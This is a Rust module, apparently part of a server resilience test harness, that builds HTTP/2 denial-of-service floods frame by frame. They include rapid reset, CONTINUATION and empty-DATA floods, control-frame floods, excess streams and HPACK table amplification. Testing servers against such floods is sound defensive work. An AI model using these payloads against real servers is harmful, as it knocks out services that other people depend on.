//! Attacks on an HTTP/2 server, each frames that are sent without end.

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Frames, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS,
    WINDOW_UPDATE, block, bytes, get,
};

/// Frames sent at once.
const BATCH: usize = 500;

/// One attack: `begin` is sent first, then `next` for each round, which is `frames` frames.
pub struct Flood {
    pub name: &'static str,
    begin: Vec<u8>,
    next: fn(u32) -> Vec<u8>,
    frames: usize,
}

impl Flood {
    /// Sends until the other end takes no more, but no more than `most` frames. Returns how many.
    pub fn run(&self, client: &mut Frames, most: usize) -> usize {
        let mut sent = 0;
        let mut taken = client.client.try_send(&self.begin);
        while taken && sent < most {
            let rounds = sent / self.frames..sent / self.frames + BATCH;
            let batch: Vec<u8> = rounds.flat_map(|round| (self.next)(round as u32)).collect();
            taken = client.client.try_send(batch);
            sent += BATCH * self.frames;
        }
        sent
    }
}

fn flood(name: &'static str, begin: Vec<u8>, next: fn(u32) -> Vec<u8>) -> Flood {
    Flood { name, begin, next, frames: 1 }
}

/// Every attack but those that need more than one connection.
pub fn all() -> Vec<Flood> {
    let more = broken().into_iter().chain(fields()).chain(content()).chain([streams()]);
    empty().into_iter().chain(resets()).chain(more).collect()
}

/// Frames that carry nothing.
pub fn empty() -> [Flood; 5] {
    [
        flood("PING", vec![], |_| bytes(PING, 0, 0, &[7; 8])),
        flood("SETTINGS", vec![], |_| bytes(SETTINGS, 0, 0, &[])),
        flood("WINDOW_UPDATE", vec![], |_| bytes(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])),
        flood("PRIORITY", vec![], |_| bytes(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])),
        flood("an unknown type", vec![], |_| bytes(0x77, 0, 0, b"x")),
    ]
}

/// Streams that end as they begin, by their client's hand or by the server's.
pub fn resets() -> [Flood; 2] {
    const CANCEL: [u8; 4] = [0, 0, 0, 8];
    let mut floods = [
        flood("rapid reset", vec![], |round| {
            [ask(round, true), bytes(RST_STREAM, 0, id(round), &CANCEL)].concat()
        }),
        flood("a window beyond all bounds", vec![], |round| {
            [ask(round, false), bytes(WINDOW_UPDATE, 0, id(round), &[0x7f, 0xff, 0xff, 0xff])].concat()
        }),
    ];
    floods.iter_mut().for_each(|flood| flood.frames = 2);
    floods
}

/// What no stream may do.
pub fn broken() -> [Flood; 3] {
    [
        flood("a window of zero", vec![], |_| bytes(WINDOW_UPDATE, 0, 0, &[0; 4])),
        flood("content on a stream that isn't open", vec![], |_| bytes(DATA, 0, 1, b"x")),
        flood("content on a stream that has ended", ask(0, true), |_| bytes(DATA, 0, 1, b"x")),
    ]
}

/// Fields without end.
pub fn fields() -> [Flood; 3] {
    let begun = bytes(HEADERS, END_STREAM, 1, &block(&get("/")));
    [
        flood("CONTINUATION", begun.clone(), |_| {
            bytes(CONTINUATION, 0, 1, &block(&[("x".into(), "y".repeat(1000))]))
        }),
        flood("empty CONTINUATION", begun, |_| bytes(CONTINUATION, 0, 1, &[])),
        // A large field is put into the table once (RFC 7541 §6.2.1), and named by one byte a thousand times (§6.1).
        flood("fields from the table", repeated(0), |round| repeated(round + 1)),
    ]
}

fn repeated(round: u32) -> Vec<u8> {
    let mut fields = block(&get("/"));
    if round == 0 {
        fields.extend([0x40, 1, b'x', 127, 0x81, 0x1e]);
        fields.extend([b'y'; 127 + 1 + 0x1e * 128]);
    } else {
        fields.extend([0x80 | 62; 10_000]);
    }
    bytes(HEADERS, END_HEADERS | END_STREAM, id(round), &fields)
}

/// Content that is none.
pub fn content() -> [Flood; 2] {
    let begun = ask(0, false);
    [
        flood("empty DATA", begun.clone(), |_| bytes(DATA, 0, 1, &[])),
        flood("DATA of one byte", begun, |_| bytes(DATA, 0, 1, b"x")),
    ]
}

/// Streams beyond what is allowed.
pub fn streams() -> Flood {
    flood("streams", vec![], |round| ask(round + 1000, true))
}

fn id(round: u32) -> u32 {
    (round * 2 + 1) & 0x7fff_ffff
}

/// The fields of a request; `whole`: it has no body.
fn ask(round: u32, whole: bool) -> Vec<u8> {
    let end = if whole { END_STREAM } else { 0 };
    bytes(HEADERS, END_HEADERS | end, id(round), &block(&get("/")))
}
